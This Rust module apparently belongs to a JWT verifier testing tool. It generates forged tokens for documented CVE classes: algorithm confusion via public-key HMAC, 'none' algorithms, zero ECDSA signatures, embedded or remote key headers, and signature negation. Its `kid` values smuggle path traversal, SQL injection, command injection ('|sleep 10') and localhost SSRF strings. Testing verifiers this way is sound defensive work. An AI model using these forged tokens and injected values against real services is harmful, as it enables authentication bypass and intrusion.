//! Signatures that prove nothing, and keys that are nobody's.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

use super::{Forge, Target, and, encode, hs256};

/// CVE-2015-9235, CVE-2016-10555, CVE-2022-29217 (PyJWT), CVE-2023-48223 and CVE-2026-34950 (fast-jwt: white space
/// undid the fix), CVE-2024-33663 (python-jose), CVE-2024-54150 (cjwt), CVE-2026-22817 and -22818 (Hono),
/// CVE-2026-11800 (Keycloak), CVE-2026-48526 (PyJWT); RFC 8725 section 3.1: the public key in whatever spelling as the
/// secret of HMAC.
pub fn hmac_keyed_by_the_public_key(target: &Target) -> Vec<String> {
    let forge = &target.forge;
    let key = forge.key.verifying_key();
    let jwk = serde_json::to_string(&key.jwk()).expect("a public key");
    let published = and(&jwk, &format!(r#""kid":"{}","alg":"{}","use":"sig""#, forge.kid, key.algorithm()));
    let lines = |text: String| {
        let lines: Vec<_> = text.as_bytes().chunks(64).map(String::from_utf8_lossy).collect();
        lines.join("\n")
    };
    let pem = |kind: &str, der: &[u8]| {
        let body = lines(STANDARD.encode(der));
        format!("-----BEGIN {kind}-----\n{body}\n-----END {kind}-----")
    };
    let (raw, der) = (forge.public(), forge.public_der());
    let mut secrets = vec![
        pem("PUBLIC KEY", &der),
        pem("RSA PUBLIC KEY", &raw),
        STANDARD.encode(&der),
        encode(&der),
        encode(&raw),
        format!(r#"{{"keys":[{published}]}}"#),
        jwk,
        published,
        forge.kid.to_string(),
        String::new(),
    ];
    let white: Vec<_> = secrets
        .iter()
        .flat_map(|secret| {
            [
                format!("{secret}\n"),
                format!("\n{secret}"),
                format!(" {secret} "),
                secret.replace('\n', "\r\n"),
            ]
        })
        .collect();
    secrets.extend(white);
    let secrets = secrets.into_iter().map(String::into_bytes).chain([raw, der]);
    secrets
        .flat_map(|secret| {
            [target.header_with("alg", "\"HS256\""), forge.header()]
                .map(|header| hs256(&secret, &header, &target.claims))
        })
        .collect()
}

/// CVE-2015-2951, CVE-2022-23540 (jsonwebtoken), CVE-2026-23993 (HarbourJwt), Wycheproof 16 and 341 to 344; RFC 8725
/// section 3.2: `none`, and names that an "anything but none" would let through.
pub fn no_algorithm_and_unknown_ones(target: &Target) -> Vec<String> {
    let mut tokens = Vec::new();
    for alg in [
        "none", "None", "NONE", "nOnE", " none", "none ", "", "null", "HS257", "ES256K", "eddsa", "EdDSA ",
        "es256", "Ed25519", "RS1", "dir",
    ] {
        let header = target.header_with("alg", &format!("\"{alg}\""));
        let signed = target.headed(&header);
        let (message, _) = signed.rsplit_once('.').expect("three parts");
        tokens.extend([format!("{message}."), message.to_owned(), signed]);
    }
    for alg in ["null", "[\"none\"]", "0", "false", "{}"] {
        tokens.push(target.headed(&target.header_with("alg", alg)));
    }
    let without =
        target.forge.header().replacen(&format!("\"alg\":\"{}\",", target.forge.key.algorithm()), "", 1);
    tokens.push(target.headed(&without));
    tokens
}

/// CVE-2022-21449 (Java's "psychic signatures"): r = s = 0, and its relatives, in both forms of ECDSA and cut short
/// (RUSTSEC-2024-0010: a shorter signature is not a smaller one).
pub fn signatures_of_nothing(target: &Target) -> Vec<String> {
    let good = target.good();
    let (message, signature) = good.rsplit_once('.').expect("three parts");
    let signature = URL_SAFE_NO_PAD.decode(signature).expect("base64url");
    let order = &P256_ORDER[..];
    let one = [&[0; 31][..], &[1]].concat();
    let signatures = [
        vec![0; 64],
        [order, order].concat(),
        [&one[..], &[0; 32]].concat(),
        [&[0; 32][..], &one].concat(),
        vec![0xff; 64],
        vec![0x30, 6, 2, 1, 0, 2, 1, 0],
        vec![0],
        Vec::new(),
        signature[..1].to_vec(),
        signature[..31].to_vec(),
        signature[..signature.len() - 1].to_vec(),
        [&signature[..], &[0]].concat(),
    ];
    signatures.map(|signature| format!("{message}.{}", encode(signature))).into()
}

/// CVE-2018-0114 (node-jose), CVE-2026-27962 (Authlib), RFC 8725 section 3.10: a key, or the address of one, in the
/// header of a token that this key has signed.
pub fn a_key_brought_along(target: &Target) -> Vec<String> {
    let own = Forge::new(target.forge.key.algorithm());
    let jwk = serde_json::to_string(&own.key.verifying_key().jwk()).expect("a public key");
    let certificate = STANDARD.encode(own.public_der());
    let mut tokens = Vec::new();
    for brought in [
        format!(r#""jwk":{jwk}"#),
        format!(r#""jku":"{}/jwks.json""#, target.lure),
        format!(r#""x5u":"{}/certificate""#, target.lure),
        format!(r#""x5c":["{certificate}"]"#),
        format!(r#""x5t":"{certificate}""#),
        format!(r#""x5t#S256":"{certificate}""#),
    ] {
        for header in [own.header(), target.forge.header()] {
            tokens.push(own.sign(&and(&header, &brought), &target.claims));
        }
        tokens.push(target.headed_and(&brought));
    }
    tokens.push(own.sign(&own.header(), &target.claims));
    tokens.push(own.sign(&target.forge.header(), &target.claims));
    tokens
}

/// RFC 8725 section 3.10, CVE-2018-1000531 and others: a `kid` that is read as a path, a query or a command, or that is
/// anything but the name of a key.
pub fn a_kid_that_is_a_path_or_a_query(target: &Target) -> Vec<String> {
    let kid = target.forge.kid.as_str();
    let kids = [
        String::from("../../dev/null"),
        String::from("/proc/self/environ"),
        String::from("' OR 1=1 --"),
        String::from("|sleep 10"),
        String::from("http://127.0.0.1/key"),
        String::from("\\u0000"),
        format!("{kid}\\u0000"),
        format!(" {kid}"),
        kid.to_lowercase(),
        kid[..kid.len() - 1].to_owned(),
        String::new(),
        "k".repeat(4_000),
    ];
    let mut tokens: Vec<_> =
        kids.map(|kid| target.headed(&target.header_with("kid", &format!("\"{kid}\"")))).into();
    // By the secret that such a path would lead to: nothing.
    tokens.push(hs256(
        b"",
        &target.header_with("kid", "\"../../dev/null\"").replace("EdDSA", "HS256"),
        &target.claims,
    ));
    for kid in ["null", "0", "[]", "{}"] {
        tokens.push(target.headed(&target.header_with("kid", kid)));
    }
    tokens.push(target.headed(&target.forge.header().replacen(&format!("\"kid\":\"{kid}\","), "", 1)));
    tokens
}

/// CVE-2026-48524 (PyJWT): signed, each by a key that nobody knows.
pub fn unknown_kid(target: &Target, n: u32) -> String {
    let kid = encode(aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, &n.to_be_bytes()));
    target.headed(&target.header_with("kid", &format!("\"{kid}\"")))
}

/// The order of P-256's group.
const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa,
    0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// OWASP's JWT cheat sheet (2026): of a signature (r, s) by ECDSA, (r, n - s) is right as well. The same token, in other
/// bytes.
pub fn negated(token: &str) -> String {
    let (message, signature) = token.rsplit_once('.').expect("three parts");
    let mut signature = URL_SAFE_NO_PAD.decode(signature).expect("base64url");
    let mut borrow = 0;
    for (s, n) in signature[32..].iter_mut().zip(P256_ORDER).rev() {
        let difference = i16::from(n) - i16::from(*s) - borrow;
        borrow = i16::from(difference < 0);
        *s = difference.rem_euclid(256).try_into().expect("a byte");
    }
    format!("{message}.{}", encode(signature))
}
